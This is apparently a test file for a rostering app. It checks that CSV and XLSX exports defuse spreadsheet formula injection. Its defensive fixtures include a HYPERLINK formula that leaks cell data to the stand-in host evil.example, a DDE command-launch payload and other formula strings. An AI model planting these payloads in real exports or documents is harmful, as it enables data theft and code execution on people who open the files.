import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { parseCsv, toCsv } from '../../core/csv';
import { freshService } from '../helpers/service';

/** Names a spreadsheet would run as formulas if a CSV handed them over as they are. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-1+2'];
/** A tab or carriage return before a formula: names are trimmed, so these reach only the CLI's own CSV. */
const CONTROL = ['\t=1+1', '\r=2+2'];

function desk() {
  const s = freshService();
  const team = s.run('team.create', { name: 'Desk', timeZone: 'Europe/Istanbul', locale: 'tr-TR', skills: ['phone'] });
  s.run('template.create', { teamId: team.id, code: 'E', name: 'Early', startLocal: '07:00', endLocal: '15:30', breakMinutes: 30, skill: 'phone' });
  const people = HOSTILE.map((name, i) => s.run('person.create', { teamId: team.id, name, skills: ['phone'], contractHoursPerWeek: 40, hourlyRate: 10.5 + i }));
  // Without e-mails the roster names its people by name.
  s.run('shift.setCells', { teamId: team.id, entries: people.map((p) => ({ personId: p.id, day: '2026-11-23', value: { code: 'E' } })) });
  const type = s.run('absenceType.list', { teamId: team.id })[0]?.id ?? 0;
  s.run('absence.create', { teamId: team.id, personId: people[0]?.id ?? 0, typeId: type, start: '2026-11-30', end: '2026-11-30', status: 'approved', note: '=1+1' });
  return { s, team };
}

/** Every cell of a CSV as a spreadsheet reads it: the raw text between separators, quotes removed. */
function rawCells(csv: string, separator: string): string[] {
  return csv
    .replace(/^\ufeff/, '')
    .split('\r\n')
    .flatMap((line) => line.split(separator))
    .map((cell) => (cell.startsWith('"') ? cell.slice(1) : cell));
}

describe('spreadsheet formulas stay text', () => {
  it('every CSV export prefixes formula-like text with a quote; numbers, negative ones too, stay numbers; the files import back as they were', () => {
    const { s, team } = desk();
    const range = { teamId: team.id, from: '2026-11-23', to: '2026-12-06' };
    const files = {
      people: s.run('person.export', { teamId: team.id }),
      roster: s.run('roster.export', { ...range, format: 'csv' }),
      hours: s.run('report.export', { ...range, report: 'hours', format: 'csv' }),
      absences: s.run('report.export', { ...range, report: 'absences', format: 'csv' }),
    };
    for (const [name, file] of Object.entries(files)) {
      // The Turkish team's dialect: semicolons and decimal commas.
      const cells = rawCells(file.data, ';');
      const dangerous = cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-(?!\d+(,\d+)?$)/.test(c));
      expect(dangerous, name).toEqual([]);
    }
    expect(files.roster.data).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
    expect(files.hours.data).toContain("'+cmd|' /C calc'!A0");
    expect(files.hours.data).toContain("'@SUM(A1:A9)");
    expect(files.hours.data).toContain("'-1+2");
    expect(files.absences.data).toContain("'=1+1");
    // A rate is a number, not text: no quote before it.
    expect(files.people.data).toContain(';10,5;');

    // Our own files come back with the names exactly as typed.
    const to = s.run('team.create', { name: 'Copy', timeZone: 'Europe/Istanbul', locale: 'tr-TR', skills: ['phone'] });
    s.run('person.import', { teamId: to.id, bytes: Buffer.from(files.people.data).toString('base64') });
    expect(s.run('person.list', { teamId: to.id }).map((p) => p.name).sort()).toEqual([...HOSTILE].sort());
    s.close();
  });

  it("the CLI's CSV on standard output is guarded the same way, and parseCsv reads it back", () => {
    const names = [...HOSTILE, ...CONTROL];
    const csv = toCsv([['person', 'hours'], ...names.map((name, i) => [name, i - 2])]);
    expect(parseCsv(csv).slice(1).map((r) => r.fields)).toEqual(names.map((name, i) => [name, String(i - 2)]));
    expect(csv).toContain(`'\t=1+1,2`);
    expect(csv).toContain(`"'\r=2+2",3`);
    expect(csv).toContain("'@SUM(A1:A9),0\r\n'-1+2,1");
  });

  it('XLSX exports store such names as text cells, never as formulas', async () => {
    const { s, team } = desk();
    const xlsx = await s.callAsync('roster.export', { teamId: team.id, from: '2026-11-23', to: '2026-12-06', format: 'xlsx' });
    if (!xlsx.ok) throw new Error(xlsx.error.message);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(xlsx.value.data, 'base64') as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    book.worksheets[0]?.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    const named = cells.filter((c) => HOSTILE.includes(String(c.value)));
    expect(named.length).toBeGreaterThanOrEqual(HOSTILE.length);
    expect(named.every((c) => c.type === ExcelJS.ValueType.String)).toBe(true);
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
    s.close();
  });
});
